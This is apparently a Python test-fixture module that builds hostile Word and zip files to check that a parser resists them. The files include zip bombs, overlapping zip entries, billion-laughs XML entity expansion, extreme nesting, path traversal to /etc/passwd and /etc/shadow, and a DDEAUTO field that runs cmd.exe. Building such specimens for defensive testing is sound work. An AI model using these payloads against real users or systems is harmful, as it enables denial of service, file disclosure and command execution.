"""Packages made to harm, mostly Word documents."""

from __future__ import annotations

import struct
import zipfile
from io import BytesIO

from hostile_base import NOWHERE, RELATION, relations, specimen, zipped

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def word(body: str, **more: str | bytes) -> bytes:
    """A docx around a body."""
    document = f'<w:document xmlns:w="{_W}" xmlns:r="{RELATION}"><w:body>{body}</w:body></w:document>'
    return zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": document, **more})


@specimen
def docx_bomb() -> bytes:
    """600 MB of zeros in the main part."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as part:
            for _ in range(600):
                part.write(bytes(1 << 20))
    return out.getvalue()


@specimen
def docx_bomb_in_a_bomb() -> bytes:
    """A zip of zips: nothing may unpack more than one layer."""
    inner = docx_bomb()
    return zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": inner, "word/embeddings/a.docx": inner})


@specimen
def docx_bomb_declared_small() -> bytes:
    """64 MB that both headers call 3,000 bytes."""
    honest = word("a" * (64 << 20))
    real = struct.pack(
        "<I", len(f'<w:document xmlns:w="{_W}" xmlns:r="{RELATION}"><w:body></w:body></w:document>') + (64 << 20)
    )
    return honest.replace(real, struct.pack("<I", 3000))


@specimen
def docx_overlapping_parts() -> bytes:
    """Many directory entries that share one compressed stream."""
    one = word("<w:p/>" * (1 << 18))
    directory = one.index(b"PK\x01\x02", one.index(b"word/document.xml") + 60)
    end = one.index(b"PK\x05\x06")
    entry = one[one.rindex(b"PK\x01\x02", 0, end) : end]
    many = [entry.replace(b"word/document.xml", b"word/documen%d.xml" % i) for i in range(10)] * 500
    body = one[:directory] + one[directory:end] + b"".join(many)
    count, size = min(5002, 65535), len(body) - directory
    return body + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, size, directory, 0)


@specimen
def docx_entity_expansion() -> bytes:
    """A billion laughs."""
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    xml = f'<!DOCTYPE d [<!ENTITY l0 "ha">{laughs}]><w:document xmlns:w="{_W}"><w:body><w:p><w:r><w:t>&l9;</w:t></w:r>'
    return zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": f"{xml}</w:p></w:body></w:document>"})


@specimen
def docx_quadratic_entity() -> bytes:
    """One long entity, used often."""
    xml = f'<!DOCTYPE d [<!ENTITY a "{"a" * 100_000}">]><w:document xmlns:w="{_W}"><w:body><w:p><w:r><w:t>'
    return zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": xml + "&a;" * 20_000})


@specimen
def docx_depth_100000() -> bytes:
    """A part nested 100,000 deep."""
    return word("<w:p>" * 100_000 + "</w:p>" * 100_000)


@specimen
def docx_depth_of_tables() -> bytes:
    """Tables in tables, as deep as a lenient parser would go."""
    return word("<w:tbl><w:tr><w:tc>" * 80 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 80)


@specimen
def docx_million_cells() -> bytes:
    """A table of 300,000 cells in rows that claim to span 1,000,000 columns."""
    cell = '<w:tc><w:tcPr><w:gridSpan w:val="1000000"/></w:tcPr><w:p><w:r><w:t>1</w:t></w:r></w:p></w:tc>'
    return word(f"<w:tbl>{f'<w:tr>{cell * 100}</w:tr>' * 3000}</w:tbl>")


@specimen
def docx_path_escape() -> bytes:
    """Parts and targets outside the package."""
    return word(
        "<w:p><w:r><w:t>支出1万元</w:t></w:r></w:p>",
        **{
            "../../../../etc/passwd": "x",
            "/etc/shadow": "x",
            "word/_rels/document.xml.rels": relations(
                ("r1", "styles", "../../../../../../etc/passwd"), ("r2", "numbering", "file:///etc/hostname")
            ),
        },
    )


@specimen
def docx_links_and_macros() -> bytes:
    """A template from the network, linked pictures, fields that execute, and a macro project."""
    links = relations(("r1", "attachedTemplate", f"{NOWHERE}t.dotm"), ("r2", "image", f"{NOWHERE}p.png"), external=True)
    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
        "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "
        '"/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>支出1万元</w:t></w:r>'
        f'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:p><w:r><w:instrText>'
        f'INCLUDETEXT "{NOWHERE}x"</w:instrText></w:r></w:p>'
    )
    more: dict[str, str | bytes] = {"word/_rels/document.xml.rels": links, "word/_rels/settings.xml.rels": links}
    return word(field, **more, **{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"Auto_Open" * 9})


@specimen
def zip_of_100000_parts() -> bytes:
    """More parts than any document has."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for number in range(40_000):
            archive.writestr(f"word/{number}.xml", "")
    return out.getvalue()
